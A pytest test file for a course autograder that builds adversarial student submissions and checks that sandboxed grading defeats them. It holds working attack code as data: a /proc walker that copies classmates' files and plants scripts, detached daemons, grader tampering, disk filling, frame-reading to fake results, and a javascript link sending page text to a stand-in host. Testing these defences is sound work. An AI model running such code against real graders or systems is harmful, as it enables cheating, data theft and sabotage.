"""Instructor grading at class scale, against students who read the package and /proc.

One small assignment (torchrun_basics: env, mean, gather; tests/grading_course.py) is
released through nbgrader, and an adversarial corpus is graded once, in one `course grade`
run with two jobs, next to honest students. Each attack is written afresh from its class:

- read-everything: from the ranks and from the kernel, walk /proc for the grader's command
  lines, look for other students' submissions, records and feedback, copy them, print them
  into the attacker's own feedback, overwrite a classmate's feedback page with a script;
- outlive: `env -i setsid` daemons from a rank and from the kernel, meant to rewrite records
  after grading;
- persist: rewrite the installed grader (harness.py) so that later submissions pass;
- disk-filler: 32 MiB files until the disk is full;
- flood: one 50 MB output line and 50 MB of HTML (with a script) as cell outputs;
- copy-the-answer: exec the instructor's solution from source/;
- frame-reader (the engine attack): global_mean reads the caller's frames and counters;
- monkeypatch: replace check() in the kernel; tampered-tests: edit, delete and retype test cells;
- stall: rank 1 stops reading the harness's connection (a time-out within each check's limit).

Honest students keep full marks, attackers get 0 on what they attacked and a flag where
something was tampered with, nothing outlives grading, the installed grader is unchanged,
and the run completes with a CSV.
"""
from __future__ import annotations

import contextlib
import csv
import hashlib
import html
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import uuid
import zipfile
from pathlib import Path

import pytest

import grading_course as gc
from autograder.launch import processes_with_env
from conftest import CONTROLS, require_sandbox

pytestmark = pytest.mark.slow

SOLUTION = "\n".join(ln for ln in gc.SOLUTION_CELL.split("\n")[1:] if "### " not in ln)
ENV_LINE = '    return int(os.environ["RANK"]), int(os.environ["LOCAL_RANK"]), int(os.environ["WORLD_SIZE"])'
BLANK = SOLUTION.replace(ENV_LINE, "    raise NotImplementedError()")
# One value per test run, the same in every pytest-xdist worker (the corpus is built once and shared).
RUN = (os.environ.get("PYTEST_XDIST_TESTRUNUID") or uuid.uuid4().hex)[:8]
MARKER = f"CLASSMATE-SECRET-{RUN}"       # in the honest student's notebook and code
OUTLIVE = f"OUTLIVE-{RUN}"               # in every daemon's command line
SPAWN = "import subprocess\nsubprocess.Popen(['sleep', '600'], start_new_session=True)\n"


def _replace(old: str, new: str, text: str = SOLUTION) -> str:
    assert old in text
    return text.replace(old, new)


def _test_cells(cells):
    return [c for c in cells if c.get("metadata", {}).get("nbgrader", {}).get("grade")]


def _tamper_with_tests(cells):
    """Edit the first test cell, delete the second, turn the third into markdown."""
    edited, deleted, retyped = _test_cells(cells)
    edited["source"] = "pass  # trust me"
    cells.remove(deleted)
    retyped["cell_type"] = "markdown"
    retyped.pop("outputs", None)
    retyped.pop("execution_count", None)


def _with_marker(cells):
    cells.insert(0, {"cell_type": "markdown", "metadata": {}, "source": f"My notes: {MARKER}"})


# A link that would send the page's text elsewhere: markdown's own syntax becomes an <a href> only when nbconvert
# renders the feedback page, after the markdown source was cleaned.
LINK_OUT = "[my write-up](javascript:fetch('https://example.invalid/?'+document.body.innerText))"


def _with_link_out(cells):
    cells.insert(0, {"cell_type": "markdown", "metadata": {}, "source": f"Read {LINK_OUT} first."})


# What a student who reads /proc and the package would try, from anywhere its code runs.
LOOT = f'''
import glob, itertools, os, re, shutil
found = set()
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        found.update(re.findall(r"/[^\\0 ]+", open(f"/proc/{{pid}}/cmdline").read()))
    except OSError:
        pass
loot = []
folders = {{os.path.dirname(p) for p in found}} | {{"/tmp", "/work", "/root", "/home", os.path.expanduser("~")}}
for folder in sorted(folders - {{"/", "/proc", "/sys", "/dev", "/usr", "/usr/bin", "/bin"}}):   # not the system
    names = list(itertools.islice((os.path.join(d, n) for d, _, ns in os.walk(folder) for n in ns), 5000))
    for f in names:
        if f.endswith((".ipynb", ".json", ".csv", ".html")) and os.path.isfile(f):
            try:
                text = open(f, errors="replace").read()
            except OSError:
                continue
            loot.append(text[:20000])
            if f.endswith(".html"):
                try:
                    open(f, "w").write("<script>alert('pwned')</script>")
                except OSError:
                    pass
print("LOOT", len(loot), "".join(loot)[:200000])
'''
DAEMON = (f"import subprocess\nsubprocess.Popen(['env', '-i', 'setsid', 'python3', '-c', "
          f"'import time; time.sleep(90)  # {OUTLIVE}'])\n")
PERSIST = '''
import autograder, os
folder = os.path.dirname(autograder.__file__)
for name in ("harness.py", "__init__.py", "trusted.py"):
    try:
        with open(os.path.join(folder, name), "a") as f:
            f.write("\\n# PASS ANYTHING WITH A MARKER\\n")
    except OSError as exc:
        print("persist:", name, type(exc).__name__)
'''
FILL_DISK = '''
import os
n = 0
try:
    while n < 400:
        with open(f"fill{n}.bin", "wb") as f:
            f.write(os.urandom(32 * 2**20))
        n += 1
except OSError as exc:
    print("disk full after", n, "files:", type(exc).__name__)
'''
COPY_ANSWER = '''
import glob, json
from autograder.config import course_root
cells = json.load(open(glob.glob(str(course_root() / "source" / "*" / "*.ipynb"))[0]))["cells"]
exec("".join(next(c for c in cells if "".join(c["source"]).startswith("%%writefile")) ["source"]).split("\\n", 1)[1])
'''
# Rank 1 stops reading the course's connection once imported: it would freeze a harness that sent blocking, and
# start the clock late (it once held `course check` for 480 s against a 180 s limit).
STALL = (CONTROLS / "harness" / "stops_reading_its_inputs.py").read_text().split("\n\ndef global_mean")[0] + "\n"
FRAME_READER = '''
def global_mean(t):
    import inspect, torch
    for frame in inspect.stack():
        for name, value in frame.frame.f_locals.items():
            if isinstance(value, dict) and "calls" in dir(value):
                value["calls"]["all_reduce"] = value["calls"].get("all_reduce", 0) + 1
    return t.clone()   # no collective: a guess that only the check's own state could make right
'''

CORPUS = {
    "honest": dict(module=SOLUTION + f"\n# {MARKER}\n", edit=_with_marker),
    "blank": dict(),
    "hang": dict(module=_replace("    dist.all_reduce(total)\n",
                                 "    if dist.get_rank() != 0:\n        dist.all_reduce(total)\n")),
    "crash-and-memory": dict(module=_replace(ENV_LINE, '    if os.environ["RANK"] == "1":\n        raise SystemExit(3)\n'
                                                       + ENV_LINE).replace(
        "    total = t.clone()\n", "    hoard = [torch.empty(2**24) for _ in iter(int, 1)]\n    total = t.clone()\n")),
    "import-loop": dict(module="while True:\n    pass\n" + SOLUTION),
    "flood": dict(module=_replace(ENV_LINE, "    import sys\n    while True:\n        sys.stderr.write('x' * 4096)\n"),
                  extra_cells=["print('y' * 50_000_000)",
                               "from IPython.display import HTML, display\n"
                               "display(HTML('<script>alert(1)</script>' + 'z' * 50_000_000))"]),
    "orphans": dict(module=_replace(ENV_LINE, "    " + SPAWN.replace("\n", "\n    ") + "\n" + ENV_LINE),
                    extra_cells=[SPAWN]),
    "read-everything": dict(module=LOOT + SOLUTION, extra_cells=[LOOT], edit=_with_link_out),
    "outlive": dict(module=DAEMON + SOLUTION, extra_cells=[DAEMON]),
    "persist": dict(module=PERSIST + BLANK, extra_cells=[PERSIST]),
    "disk-filler": dict(module=SOLUTION, extra_cells=[FILL_DISK]),
    "copy-the-answer": dict(module=COPY_ANSWER, extra_cells=[COPY_ANSWER]),
    "frame-reader": dict(module=SOLUTION.split("def global_mean")[0] + FRAME_READER + "\n\ndef gather_all"
                         + SOLUTION.split("def gather_all")[1]),
    "monkeypatch": dict(extra_cells=["import autograder, autograder.harness\n"
                                     "autograder.check = autograder.harness.check = lambda *a, **k: print('PASS')"]),
    "tampered-tests": dict(module=SOLUTION, edit=_tamper_with_tests),
    "stall": dict(module=STALL + SOLUTION),
}


def _impersonators(subs: Path, release_nb: Path) -> None:
    """Submissions that claim a classmate's name or work through the folder's shape (graded in no one's name):
    - impostor: its own (blank) notebook, and a full-marks copy at impostor/honest/mini/mini.ipynb, nested where the
      path's last folders name the classmate (it used to be graded as honest's, and sort after the real one);
    - linker: mini.ipynb is a symbolic link to honest's notebook (git-based collection keeps links);
    - folder-linker: its mini folder is a link to honest's folder."""
    notebook = f"{gc.ASSIGNMENT}.ipynb"
    own = subs / "impostor" / gc.ASSIGNMENT
    own.mkdir(parents=True)
    (own / notebook).write_text(json.dumps(gc.submission(release_nb)))
    nested = subs / "impostor" / "honest" / gc.ASSIGNMENT
    nested.mkdir(parents=True)
    (nested / notebook).write_text(json.dumps(gc.submission(release_nb, SOLUTION)))
    (subs / "linker" / gc.ASSIGNMENT).mkdir(parents=True)
    (subs / "linker" / gc.ASSIGNMENT / notebook).symlink_to(subs / "honest" / gc.ASSIGNMENT / notebook)
    (subs / "folder-linker").mkdir()
    (subs / "folder-linker" / gc.ASSIGNMENT).symlink_to(subs / "honest" / gc.ASSIGNMENT, target_is_directory=True)


IMPERSONATORS = {"impostor": "is not where a submission goes", "linker": "is a symbolic link",
                 "folder-linker": "is a symbolic link"}


@contextlib.contextmanager
def _environment(**values: str):
    saved = {k: os.environ.get(k) for k in values}
    os.environ.update(values)
    try:
        yield
    finally:
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v


def _mini_environment(folder: Path) -> dict[str, str]:
    return dict(COURSE_ROOT=str(folder / "course"), COURSE_TEST_ID=(folder / "tag").read_text(),
                COURSE_INSTALL_RECORD=str(folder / "install.json"))


def _build_mini(folder: Path) -> None:
    gc.build(folder / "course")
    (folder / "tag").write_text(uuid.uuid4().hex)
    with _environment(**_mini_environment(folder)):
        from autograder import install, nbglue

        install.record()   # the grader as it is now (as `make setup` records it)
        nbglue.release()
        release_nb = folder / "course" / "release" / gc.ASSIGNMENT / f"{gc.ASSIGNMENT}.ipynb"
        subs = folder / "submissions"
        for student, case in CORPUS.items():
            target = subs / student / gc.ASSIGNMENT
            target.mkdir(parents=True)
            nb = gc.submission(release_nb, case.get("module"), case.get("extra_cells", []), case.get("edit"))
            (target / f"{gc.ASSIGNMENT}.ipynb").write_text(json.dumps(nb))
        _impersonators(subs, release_nb)


@pytest.fixture(scope="module")
def mini(artefacts):
    """The mini course released through nbgrader and the corpus written as submissions, made once per test session
    (conftest.Artefacts); COURSE_ROOT and the install record set for this module's tests."""
    folder = artefacts.folder("grading-mini", _build_mini)
    with _environment(**_mini_environment(folder)):
        yield dict(root=folder / "course", subs=folder / "submissions", tag=os.environ["COURSE_TEST_ID"])


def _alive_with(text: str) -> list[int]:
    pids = []
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            if text.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                pids.append(int(pid))
        except OSError:
            pass
    return pids


@pytest.fixture(scope="module")
def graded(mini, artefacts):
    """The whole corpus graded once per test session with --jobs 2 (the sandbox is required: CI has it); what was
    seen right after grading is kept beside it for every worker that reads it. About 5 min on 2 cores: 18 students,
    each a sandboxed gradejob with its own launches and nbgrader kernel."""
    from autograder import grading, install

    def grade(folder: Path) -> None:
        require_sandbox()
        source_sha = hashlib.sha256((mini["root"] / "source/mini/mini.ipynb").read_bytes()).hexdigest()
        start = time.monotonic()
        grading.grade(mini["subs"], out=folder / "out", jobs=2, progress=False)
        seconds = time.monotonic() - start
        time.sleep(1)
        (folder / "seen.json").write_text(json.dumps(dict(
            seconds=seconds, source_sha=source_sha, leftovers=processes_with_env("COURSE_TEST_ID", mini["tag"]),
            daemons=_alive_with(OUTLIVE), install_changes=install.changes())))

    folder = artefacts.folder("grading-class", grade)
    rows = {r["student"]: r for r in csv.DictReader(open(folder / "out" / "grades.csv"))}
    return dict(mini, rows=rows, out=folder / "out", **json.loads((folder / "seen.json").read_text()))


def points(row) -> tuple[float, float, float]:
    return tuple(float(row[g] or 0) for g in ("torchrun_env", "torchrun_mean", "torchrun_gather"))


def page(graded, student: str) -> str:
    return (graded["out"] / "feedback" / student / gc.ASSIGNMENT / f"{gc.ASSIGNMENT}.html").read_text()


def test_every_submission_has_a_row_and_nothing_outlives_grading(graded):
    assert set(graded["rows"]) == set(CORPUS) | set(IMPERSONATORS)
    assert graded["leftovers"] == [] and graded["daemons"] == []
    print(f"corpus of {len(CORPUS)} graded in {graded['seconds']:.0f} s with --jobs 2")


@pytest.mark.parametrize("student, expected", [
    ("honest", (1, 1, 1)),
    ("blank", (0, 0, 0)),
    ("hang", (1, 0, 1)),            # mean hangs (rank 0 skips all_reduce): time-out, the rest still graded
    ("crash-and-memory", (0, 0, 1)),
    ("import-loop", (0, 0, 0)),
    ("flood", (0, 1, 1)),
    ("orphans", (1, 1, 1)),
    ("read-everything", (1, 1, 1)),   # its own code is right; it got nothing of anyone else's (below)
    ("outlive", (1, 1, 1)),
    ("persist", (0, 1, 1)),         # dist_env is blank; the grader it tried to rewrite is unchanged (below)
    ("disk-filler", (1, 1, 1)),
    ("copy-the-answer", (0, 0, 0)),
    ("frame-reader", (1, 0, 1)),
    ("monkeypatch", (0, 0, 0)),
    ("tampered-tests", (1, 1, 1)),  # the test cells are put back and run; the tampering is flagged
    ("stall", (0, 0, 0)),           # rank 1 takes no inputs: a time-out within each check's limit (below)
])
def test_scores(graded, student, expected):
    row = graded["rows"][student]
    assert points(row) == expected, row
    assert float(row["total"]) == sum(expected) and float(row["max"]) == 3


def test_honest_students_carry_no_flags_whatever_ran_beside_them(graded):
    assert graded["rows"]["honest"]["flags"] == "" and graded["rows"]["blank"]["flags"] == ""


def test_nothing_of_a_classmate_reaches_an_attacker_and_no_page_carries_a_script(graded):
    out = graded["out"]
    assert MARKER in (graded["subs"] / "honest/mini/mini.ipynb").read_text()
    for student in CORPUS:
        if student != "honest":
            assert MARKER not in page(graded, student), student
            assert MARKER not in (out / "records" / student / "mini.json").read_text()
        assert "<script>alert" not in page(graded, student), student   # its source shows escaped: &lt;script&gt;
        assert 'http-equiv="Content-Security-Policy"' in page(graded, student), student
    assert "LOOT" in page(graded, "read-everything")   # it ran, and found nothing to print
    link_page = page(graded, "read-everything").lower()
    assert "my write-up" in link_page and 'href="javascript' not in link_page   # the link is shown, unarmed


@pytest.mark.parametrize("student, words", IMPERSONATORS.items())
def test_a_submission_is_graded_only_in_its_top_level_name(graded, student, words):
    """Nested copies and links are refused with a flag naming them; the classmate they name keeps full marks."""
    row = graded["rows"][student]
    assert points(row) == (0, 0, 0) and "needs manual grading" in row["flags"] and words in row["flags"], row
    assert points(graded["rows"]["honest"]) == (1, 1, 1)
    assert graded["rows"]["honest"]["flags"] == ""


def test_feedback_pages_leave_the_hidden_tests_out(graded):
    """The test cells read as released; a line says that hidden tests ran there, with the score."""
    hidden = 'check("torchrun.env", world_size=3)'
    source = json.loads((graded["root"] / "source/mini/mini.ipynb").read_text())
    assert any(hidden in "".join(c["source"]) for c in source["cells"])
    for student in ("honest", "blank"):
        shown = html.unescape(re.sub(r"<[^>]+>", "", page(graded, student)))   # the text a reader sees
        assert 'check("torchrun.env")' in shown and hidden not in shown, student
        assert "Hidden tests of the instructor also ran in this cell" in shown, student


def test_the_grader_and_the_course_are_unchanged(graded):
    assert graded["install_changes"] == []
    sha = hashlib.sha256((graded["root"] / "source/mini/mini.ipynb").read_bytes()).hexdigest()
    assert sha == graded["source_sha"]
    assert "persist: harness.py" in page(graded, "persist")   # it tried, from the kernel, and could not


def test_a_full_disk_stays_in_its_sandbox(graded):
    """It filled its own size-capped folder (where nbgrader writes its notebook too): the rest of the class is
    graded, and its own row has the trusted points."""
    assert points(graded["rows"]["disk-filler"]) == (1, 1, 1)


def test_floods_are_cut_to_size(graded):
    """Ranks that flood are stopped (a verdict); 100 MB of kernel output leaves a page of a few MB, no script."""
    html = page(graded, "flood")
    assert len(html) < 5 * 2**20 and "removed: over the size limit" in html and "<script>alert" not in html


def test_kernel_monkeypatching_is_flagged_and_the_trusted_score_stands(graded):
    flags = graded["rows"]["monkeypatch"]["flags"]
    assert flags.count("the trusted score stands") == 3, flags


def test_tampered_test_cells_are_named(graded):
    flags = graded["rows"]["tampered-tests"]["flags"]
    assert "test cell torchrun_env was edited" in flags and "'pass  # trust me'" in flags
    assert "test cell torchrun_mean was deleted" in flags
    assert "test cell torchrun_gather was turned into a markdown cell" in flags


def test_frame_reading_gets_no_credit_in_grading_as_in_check(graded, tmp_path):
    from autograder import run_check

    module = tmp_path / "torchrun_basics.py"
    module.write_text(CORPUS["frame-reader"]["module"])
    v = run_check("torchrun.mean", module=module)
    assert not v.passed and points(graded["rows"]["frame-reader"])[1] == 0


def test_a_rank_that_takes_no_inputs_is_a_time_out_within_the_checks_limit(graded):
    """Every check of the submission whose rank 1 stopped reading ends at its time limit (gc.TIME_LIMIT), not later."""
    from autograder.records import verdicts_path

    verdicts = json.loads(verdicts_path(graded["out"], "stall", gc.ASSIGNMENT).read_text())
    assert verdicts, "no verdict recorded for the stalled submission"
    for key, v in verdicts.items():
        assert v["status"] == "timeout" and f"time limit of {gc.TIME_LIMIT} s" in v["message"], (key, v)
        assert v["seconds"] <= gc.TIME_LIMIT + 5, (key, v["seconds"])


def test_hang_verdict_reaches_the_feedback(graded):
    assert "TIME-OUT torchrun.mean" in page(graded, "hang")


def test_rerun_skips_what_is_graded(graded):
    from autograder import grading

    records = sorted((graded["out"] / "records").glob("*/*.json"))
    before = {p: p.stat().st_mtime_ns for p in records}
    start = time.monotonic()
    grading.grade(graded["subs"], out=graded["out"], jobs=2, progress=False)
    assert time.monotonic() - start < 30
    assert {p: p.stat().st_mtime_ns for p in records} == before


def test_lms_zip_is_collected_per_student(mini, tmp_path):
    from autograder.config import load
    from autograder.submissions import collect

    zpath = tmp_path / "lms.zip"
    src = mini["subs"]
    with zipfile.ZipFile(zpath, "w") as z:
        z.write(src / "honest/mini/mini.ipynb", "honest_1234_5678_mini.ipynb")           # Canvas-style flat
        z.write(src / "blank/mini/mini.ipynb", "Blank Student_99_assignsubmission_file_/mini-1.ipynb")  # Moodle
    subs = collect(zpath, list(load().assignments), tmp_path)
    assert sorted((s.student, s.assignment) for s in subs) == [("Blank-Student", "mini"), ("honest", "mini")]


def _copy(mini, tmp_path, students) -> Path:
    subs = tmp_path / "subs"
    for student in students:
        (subs / student / "mini").mkdir(parents=True)
        (subs / student / "mini" / "mini.ipynb").write_bytes((mini["subs"] / student / "mini/mini.ipynb").read_bytes())
    return subs


def _course(*args, env=None):
    return subprocess.run([sys.executable, "-m", "autograder.cli", *args], capture_output=True, text=True,
                          env={**os.environ, **(env or {})}, timeout=900)


def test_without_a_sandbox_grading_refuses_unless_told_and_then_says_so(mini, tmp_path):
    """No sandbox: a clear refusal; --unsafe-no-sandbox grades one at a time, puts back what a submission changed
    outside itself (naming the file and the student), and every row says it was graded without a sandbox."""
    subs = _copy(mini, tmp_path, ["honest"])
    (subs / "source-writer" / "mini").mkdir(parents=True)
    release_nb = mini["root"] / "release/mini/mini.ipynb"
    source = mini["root"] / "source/mini/mini.ipynb"
    before = source.read_bytes()
    writer = gc.submission(release_nb, SOLUTION, [f"open({str(source)!r}, 'w').write('{{}}')"])
    (subs / "source-writer" / "mini" / "mini.ipynb").write_text(json.dumps(writer))
    refused = _course("grade", str(subs), "--out", str(tmp_path / "out"), "--jobs", "2", env={"COURSE_SANDBOX": "off"})
    assert refused.returncode == 2 and "no sandbox" in refused.stderr and "--unsafe-no-sandbox" in refused.stderr
    done = _course("grade", str(subs), "--out", str(tmp_path / "out"), "--jobs", "2", "--unsafe-no-sandbox",
                   env={"COURSE_SANDBOX": "off"})
    assert done.returncode == 0, done.stderr
    rows = {r["student"]: r for r in csv.DictReader(open(tmp_path / "out" / "grades.csv"))}
    assert all("graded WITHOUT a sandbox" in r["flags"] for r in rows.values())
    assert "while source-writer's mini was graded" in rows["source-writer"]["flags"]
    assert "mini.ipynb" in rows["source-writer"]["flags"] and "while" not in rows["honest"]["flags"]
    assert source.read_bytes() == before


def test_a_changed_grader_is_refused_naming_the_file(mini, tmp_path):
    record = json.loads(Path(os.environ["COURSE_INSTALL_RECORD"]).read_text())
    record["autograder/harness.py"] = "0" * 64
    changed = tmp_path / "install.json"
    changed.write_text(json.dumps(record))
    proc = _course("grade", str(_copy(mini, tmp_path, ["blank"])), "--out", str(tmp_path / "out"),
                   env={"COURSE_INSTALL_RECORD": str(changed)})
    assert proc.returncode == 2 and "autograder/harness.py" in proc.stderr and "refusing to grade" in proc.stderr


@pytest.mark.parametrize("stop", [signal.SIGINT, signal.SIGTERM], ids=["ctrl-c", "kill"])
def test_interrupt_keeps_recorded_grades(mini, tmp_path, stop):
    """Ctrl-C or `kill` in the middle: `course grade` exits within 10 s, and by then every process of its jobs
    (gradejob, sandbox, torchrun, ranks) is gone; what was recorded stays and the CSV has it."""
    # "hang" between the two: its time-out keeps the run going long after the first record, however slowly this
    # test's own polling gets the core on a busy machine (with "honest" alone, the run could finish first).
    subs = _copy(mini, tmp_path, ["blank", "hang", "honest"])
    out = tmp_path / "out"
    proc = subprocess.Popen([sys.executable, "-m", "autograder.cli", "grade", str(subs), "--out", str(out)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    first = out / "records" / "blank" / "mini.json"
    deadline = time.monotonic() + 240
    while not first.exists() and time.monotonic() < deadline:
        time.sleep(0.2)
    assert first.exists()
    time.sleep(2)   # the next job is under way: a gradejob, its sandbox and ranks are running
    sent = time.monotonic()
    proc.send_signal(stop)
    _, err = proc.communicate(timeout=60)
    seconds = time.monotonic() - sent
    left = processes_with_env("COURSE_TEST_ID", os.environ["COURSE_TEST_ID"])
    assert seconds <= 10, f"course grade took {seconds:.1f} s to stop after {stop.name}"
    assert left == [], f"processes of the stopped jobs outlived course grade: {left}"
    assert proc.returncode != 0 and "every recorded grade is kept" in err
    assert not (out / "records" / "hang" / "mini.json").exists()
    assert not (out / "records" / "honest" / "mini.json").exists()
    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv"))}
    assert set(rows) == {"blank"}


# ------------------------------------------------------------------ the same class through Slurm

SLURM_CLASS = ("honest", "blank", "persist")    # graded above on this machine, and again through Slurm
ASLEEP = "import time\ntime.sleep(3600)  # longer than any time limit\n"


def _shorten_limit_of_asleep(out: Path, env: dict, done: set) -> None:
    """Give the `asleep` task of every array submitted so far a 1-minute limit (the array's is 40 min): Slurm counts
    limits in whole minutes, so the honest students keep their margin on a busy machine and this one is killed."""
    for job_file in out.glob("slurm/*/job"):
        if job_file in done:
            continue
        tasks = json.loads((job_file.parent / "tasks.json").read_text())["tasks"]
        index = next(i for i, t in enumerate(tasks) if t["student"] == "asleep")
        subprocess.run(["scontrol", "update", f"JobId={job_file.read_text().strip()}_{index}", "TimeLimit=1"],
                       env=env, check=True, capture_output=True, timeout=60)
        done.add(job_file)


@pytest.fixture(scope="module")
def slurm_graded(mini, tmp_path_factory):
    """honest, blank, persist and `asleep` (a cell that sleeps) graded with `course grade --slurm` on a local one-node
    Slurm, from relative paths as an instructor types them: interrupted with Ctrl-C once the first grade is recorded,
    then run again to the end. About 2.5 min."""
    import slurm_cluster
    from autograder import slurm

    why = slurm_cluster.why_not()
    if why:
        pytest.skip(why)
    folder = tmp_path_factory.mktemp("slurm-class")
    subs = folder / "subs"
    for student in SLURM_CLASS:
        (subs / student).mkdir(parents=True)
        shutil.copytree(mini["subs"] / student / gc.ASSIGNMENT, subs / student / gc.ASSIGNMENT)
    release_nb = mini["root"] / "release" / gc.ASSIGNMENT / f"{gc.ASSIGNMENT}.ipynb"
    (subs / "asleep" / gc.ASSIGNMENT).mkdir(parents=True)
    (subs / "asleep" / gc.ASSIGNMENT / f"{gc.ASSIGNMENT}.ipynb").write_text(
        json.dumps(gc.submission(release_nb, SOLUTION, [ASLEEP])))
    command = [sys.executable, "-m", "autograder.cli", "grade", "subs", "--out", "out", "--slurm",
               "--cpus-per-task", "1"]
    seen: dict = {}
    with slurm_cluster.local_cluster(folder / "cluster") as cluster:
        env = {**os.environ, **cluster, "COURSE_TEST_ID": mini["tag"]}   # every process it starts carries the tag
        shortened: set = set()
        first = subprocess.Popen(command, cwd=folder, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                                 text=True)
        deadline = time.monotonic() + 400
        while not list((folder / "out" / "records").glob("*/*.json")) and time.monotonic() < deadline:
            _shorten_limit_of_asleep(folder / "out", env, shortened)
            time.sleep(0.5)
        seen["recorded_before_interrupt"] = sorted(p.parent.name for p in (folder / "out/records").glob("*/*.json"))
        first.send_signal(signal.SIGINT)
        asked = time.monotonic()
        seen["interrupted_output"] = first.communicate(timeout=120)[0]
        seen["interrupt_seconds"], seen["interrupt_code"] = time.monotonic() - asked, first.returncode
        first_job = next(iter(shortened)).read_text().strip()
        seen["left_running"] = {i: s for i, (s, _) in (slurm.task_states(first_job) or {}).items()
                                if s in slurm.STILL_RUNNING}
        second = subprocess.Popen(command, cwd=folder, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                                  text=True)
        deadline = time.monotonic() + 600
        while second.poll() is None and time.monotonic() < deadline:
            _shorten_limit_of_asleep(folder / "out", env, shortened)
            time.sleep(0.5)
        if second.poll() is None:   # a hang fails the tests below instead of holding the suite
            second.send_signal(signal.SIGINT)
        seen["output"], seen["code"] = second.communicate(timeout=120)[0], second.returncode
        seen["arrays"] = sorted(len(json.loads((f.parent / "tasks.json").read_text())["tasks"]) for f in shortened)
        seen["leftovers"] = processes_with_env("COURSE_TEST_ID", mini["tag"])
    rows = {r["student"]: r for r in csv.DictReader(open(folder / "out" / "grades.csv"))}
    return dict(seen, rows=rows, out=folder / "out")


def test_a_class_graded_through_slurm_gets_the_local_grades(slurm_graded, graded):
    assert slurm_graded["code"] == 0, slurm_graded["output"]
    for student in SLURM_CLASS:
        mine, local = slurm_graded["rows"][student], graded["rows"][student]
        assert (points(mine), mine["flags"]) == (points(local), local["flags"]), (student, mine, local)
    assert slurm_graded["leftovers"] == []


def test_a_task_that_slurm_kills_is_a_manual_grading_row_with_slurms_reason(slurm_graded):
    flags = slurm_graded["rows"]["asleep"]["flags"]
    assert "needs manual grading" in flags and "Slurm ended the grading task: TIMEOUT" in flags, flags
    assert "DUE TO TIME LIMIT" in flags, flags


def test_ctrl_c_cancels_the_array_and_a_rerun_sends_only_what_is_not_recorded(slurm_graded):
    recorded = slurm_graded["recorded_before_interrupt"]
    assert slurm_graded["interrupt_code"] == 130 and slurm_graded["interrupt_seconds"] < 70, slurm_graded
    assert "interrupted (SIGINT)" in slurm_graded["interrupted_output"]
    assert slurm_graded["left_running"] == {}, "tasks of the cancelled array still ran"
    assert recorded and slurm_graded["arrays"] == [4 - len(recorded), 4], slurm_graded["arrays"]
    for student in recorded:   # kept, and not graded again
        assert slurm_graded["rows"][student]["flags"] == "", slurm_graded["rows"][student]
